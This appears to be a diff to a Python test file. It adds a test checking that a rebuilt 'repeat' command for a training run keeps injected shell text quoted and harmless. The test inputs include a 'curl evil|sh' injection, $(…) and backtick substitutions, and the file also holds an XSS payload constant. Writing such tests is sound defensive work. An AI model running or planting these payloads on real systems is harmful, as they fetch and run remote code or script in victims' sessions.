@@ -3,6 +3,7 @@
 import html
 import json
 import os
+import shlex
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -10,6 +11,7 @@ import pytest
 from PIL import Image
 
 from common.errors import Refused
+from common.run.past_run import PastRun
 from common.run.report import write
 
 EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)>"
@@ -122,3 +124,14 @@ def test_classes_are_listed_lowest_first_and_no_fifo_is_waited_for(tmp_path: Pat
     assert "class F1 threshold b 0.00 % 12.50 % a 50.00 % 12.50 % c - 12.50 %" in page.text
     for said in ("errors.png: can't be shown", "metrics.jsonl: not a regular file"):
         assert said in page.text
+
+
+def test_the_command_to_repeat_is_one_command(tmp_path) -> None:
+    (tmp_path / "status.json").write_text("{}")
+    typed = "cls.py --epochs 3"
+    for launch in ("accelerate launch --num_processes 2 ", "accelerate launch;curl evil|sh; ", "a 'b $(c) ", "`x` "):
+        facts = {"command": typed, "launch": launch + typed, "recipe": "mine.py; x"}
+        (tmp_path / "environment.json").write_text(json.dumps(facts))
+        words = shlex.split(PastRun(tmp_path).repeat_command)
+        config = str(tmp_path / "config.yaml")
+        assert words == [*launch.split(), "mine.py; x", "--config", config, "--name", f"{tmp_path.name}-again"]
